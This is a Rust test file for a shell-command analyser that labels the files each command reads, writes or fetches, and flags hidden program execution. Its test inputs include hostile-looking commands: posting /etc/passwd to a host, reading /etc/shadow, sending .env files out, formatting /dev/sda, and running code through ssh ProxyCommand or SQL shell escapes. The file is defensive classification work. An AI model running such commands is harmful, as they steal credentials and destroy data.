//! Programs that run others, and values that hold files or code.

use super::read;
use super::tests::{check, command};
use crate::call::Kind;

#[test]
fn programs_that_run_others_are_read_through() {
    check(&[
        ("npx prettier --write src", "R src; W src"),
        ("npx unknown ./x", ""),
        ("npx ./local x", "R ./local"),
        ("npx https://example.com/a.tgz", "F https://example.com/a.tgz"),
        ("npx -c x", "opaque"),
        ("npx $x", "opaque"),
        ("npx tsc -p a.json", "R a.json"),
        ("npm exec -- rm -rf x", "W x"),
        ("pnpm dlx prettier -w a", "R a; W a"),
        ("uv run python a.py", "R a.py"),
        ("uv run -- cat /etc/shadow", "R /etc/shadow"),
        ("uv run -m pytest tests/a.py", "R tests/a.py"),
        ("uvx ruff format a", "R a; W a"),
        ("poetry run rm -rf x", "W x"),
        ("poetry run ./a.sh", "R ./a.sh"),
        ("bundle exec rake test", ""),
        ("conda run -n e cat a", "R a"),
        ("python -m pip install -r r.txt", "R r.txt"),
        ("python3 -m json.tool a b.json", "R a; W b.json"),
        ("python -m venv .venv", "W .venv"),
        ("python -m timeit x", "opaque"),
        ("python -m $x", "opaque"),
        ("python -m unknown /etc/x", ""),
        ("tmux send-keys x Enter", "opaque"),
        ("tmux ls", ""),
        ("gdb -p 1", "opaque"),
        ("crontab -l", ""),
        ("crontab -", "opaque"),
        ("crontab a", "R a"),
        ("git rebase --exec x main", "opaque"),
        ("git submodule foreach x", "opaque"),
        ("git bisect run x", "opaque"),
    ]);
}

#[test]
fn a_value_may_hold_a_file() {
    check(&[
        ("curl -d $x https://example.com/", "F https://example.com/; opaque"),
        ("curl -d @$x https://example.com/", "F https://example.com/; opaque"),
        ("curl -d a=$x https://example.com/", "F https://example.com/"),
        ("curl -H Authorization:$x https://example.com/", "F https://example.com/"),
        ("curl --data-urlencode a@/etc/passwd https://example.com/", "R /etc/passwd; F https://example.com/"),
        ("curl --data-urlencode @a https://example.com/", "R a; F https://example.com/"),
        ("curl --data-urlencode a=b@c https://example.com/", "F https://example.com/"),
        ("curl --variable x@a https://example.com/", "R a; F https://example.com/"),
        ("curl -b a.txt https://example.com/", "R a.txt; F https://example.com/"),
        ("curl -b a=b https://example.com/", "F https://example.com/"),
        ("curl -F f=@a,b;type=x https://example.com/", "R a b; F https://example.com/"),
        ("curl -F f=<a https://example.com/", "R a; F https://example.com/"),
        ("curl -F f=$x https://example.com/", "F https://example.com/; opaque"),
        ("curl -F f=a$x https://example.com/", "F https://example.com/"),
        ("curl -F $x https://example.com/", "F https://example.com/; opaque"),
        ("curl -K a", "R a; opaque"),
        ("wget -i urls", "R urls; opaque"),
        ("tar -cf a.tar -T list", "R list; W a.tar; opaque"),
        ("helm install x ./c --set-file k=v.txt", "R v.txt ./c"),
        ("docker build --secret id=a,src=.env .", "R .env ."),
        ("gh secret set -f .env", "R .env"),
    ]);
}

#[test]
fn sql_that_only_asks_is_told_from_what_runs_programs_or_takes_files() {
    check(&[
        ("sqlite3 a.db .schema_users", "R a.db; W a.db"),
        ("sqlite3 a.db select_1", "R a.db; W a.db"),
        ("sqlite3 a.db .shell_ls", "R a.db; W a.db; opaque"),
        ("sqlite3 a.db .tables\n.shell_ls", "R a.db; W a.db; opaque"),
        ("sqlite3 a.db select_readfile('x')", "R a.db; W a.db; opaque"),
        ("sqlite3 a.db ATTACH_'x'_as_y", "R a.db; W a.db; opaque"),
        ("duckdb a.db select", "R a.db; W a.db; opaque"),
        ("psql -c select_1", ""),
        ("psql -c \\d_x", ""),
        ("psql -c \\!_ls", "opaque"),
        ("psql -c \\dt_\\!_ls", "opaque"),
        ("psql -c \\copy_t_from_x", "opaque"),
        ("psql -c COPY_t_TO_PROGRAM_'x'", "opaque"),
        ("psql -c $x", "opaque"),
        ("psql -f a.sql postgres://h.test/d", "R a.sql; F postgres://h.test/d"),
        ("mysql -e system_ls", "opaque"),
        ("mysql -e select_1", ""),
    ]);
}

#[test]
fn connections_by_ssh_may_run_a_program_here() {
    check(&[
        ("ssh -o ProxyCommand=x h.test", "F ssh://h.test; opaque"),
        ("ssh -o ProxyCommand_x h.test", "F ssh://h.test; opaque"),
        ("ssh -o BatchMode=yes h.test", "F ssh://h.test"),
        ("scp -o ProxyCommand=x a h.test:b", "R a; F ssh://h.test/b; opaque"),
        ("rsync -e ssh_-p_22 a h.test:b", "R a; F ssh://h.test/b"),
        ("rsync -e ssh_-oProxyCommand=x a h.test:b", "R a; F ssh://h.test/b; opaque"),
        ("rsync -e sh a b.d", "R a; W b.d; moves; opaque"),
        ("rsync a/ b.d/", "R a/; W b.d/; moves"),
        ("rsync a b.d/", "R a; W b.d/ b.d/a; moves"),
        ("ssh-keygen -t ed25519 -f k", "W k"),
        ("ssh-keygen -lf k", "R k"),
        ("ssh-keygen -yf k", "R k"),
    ]);
}

#[test]
fn programs_of_many_kinds_name_their_files() {
    check(&[
        ("base64 --input=../../a", "R ../../a"),
        ("base64 --inp ../../a", "R ../../a"),
        ("split -b 1M a /etc/cron.d/x", "R a; W /etc/cron.d/x"),
        ("perl -0pi -e s/a/b/ f", "R f; W f; opaque"),
        ("perl -0777 -ne print f", "R f; opaque"),
        ("yq .a f.yaml", "R f.yaml"),
        ("yq e .a f.yaml", "R f.yaml"),
        ("yq e -i .a=1 f.yaml", "R f.yaml; W f.yaml"),
        ("sponge a", "W a"),
        ("bat -n a", "R a"),
        ("mkfs.ext4 -F /dev/sda", "W /dev/sda"),
        ("setfacl -m u:x:rw a", "W a"),
        ("tshark -r a.pcap -w b.pcap", "R a.pcap; W b.pcap"),
        ("mogrify -resize 50% a.png", "R a.png; W a.png"),
        ("rsvg-convert a.svg -o b.png", "R a.svg; W b.png"),
        ("chromium --headless --screenshot=a.png https://example.com", "W a.png; F https://example.com"),
        ("tsc -p a/tsconfig.json --outDir dist", "R a/tsconfig.json; W dist"),
        ("composer create-project a/b c", "W c; moves"),
        ("s5cmd cp a s3://b/c", "R a; F s3://b/c"),
        ("twine upload dist/*", "R dist/*"),
        ("hf download a/b --local-dir d", "W d"),
        ("croc send .env", "R .env"),
    ]);
    assert_eq!(read(&command("bat -n a")).command.emulates, Some(Kind::Read));
}

#[test]
fn what_is_found_or_only_counted_is_told() {
    let lines = |text: &str| super::corpus_tests::lines(text).join("; ");
    for (text, expected) in [
        ("find /a -exec grep -l x {} +", "find /a -exec grep -l x {} + => R /a; grep -l x {}"),
        ("find /a -exec cp {} b.d ;", "find /a -exec cp {} b.d ; => R /a, W /a; cp {} b.d => W b.d"),
        ("find $x -exec grep x {} +", "find $x -exec grep x {} + => opaque; grep x {}"),
        ("find /a -exec sed -i 1d {} +", "find /a -exec sed -i 1d {} + => R /a; sed -i 1d {} => opaque"),
        ("x | xargs wc -l", "x; xargs wc -l {}; wc -l {}"),
        ("x | xargs kill", "x; xargs kill {}; kill {}"),
        ("x | xargs cat", "x; xargs cat {} => opaque; cat {}"),
        ("x | xargs rm", "x; xargs rm {} => opaque; rm {} => opaque"),
        ("x | xargs env cat", "x; xargs env cat {} => opaque; cat {}"),
        ("sudo cat a", "sudo cat a; cat a => R a, =R"),
    ] {
        assert_eq!(lines(&text.replace(" ;", " \\;")), expected, "{text}");
    }
}
